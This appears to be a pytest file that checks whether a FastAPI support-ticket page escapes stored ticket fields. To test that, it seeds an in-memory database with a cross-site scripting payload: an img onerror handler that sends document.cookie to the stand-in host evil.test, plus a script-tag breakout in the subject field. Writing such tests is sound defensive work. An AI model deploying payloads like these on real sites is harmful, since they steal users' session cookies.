import importlib
import os
import sqlite3
from html.parser import HTMLParser

from fastapi.testclient import TestClient

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [a for a, _ in attrs]


def test_ticket_subject_cannot_inject_script():
    conn = sqlite3.connect(":memory:", check_same_thread=False)
    conn.execute("CREATE TABLE tickets (id INTEGER PRIMARY KEY, customer TEXT, subject TEXT, status TEXT)")
    conn.execute(
        "INSERT INTO tickets (customer, subject, status) VALUES (?, ?, ?)",
        ("Mallory <img src=x onerror=fetch('//evil.test/'+document.cookie)>",
         "</td><script>steal()</script>", "open"),
    )
    body = TestClient(mod.create_app(conn)).get("/tickets").text
    parser = Tags()
    parser.feed(body)
    assert "script" not in parser.tags
    assert "img" not in parser.tags
    assert "onerror" not in parser.attrs
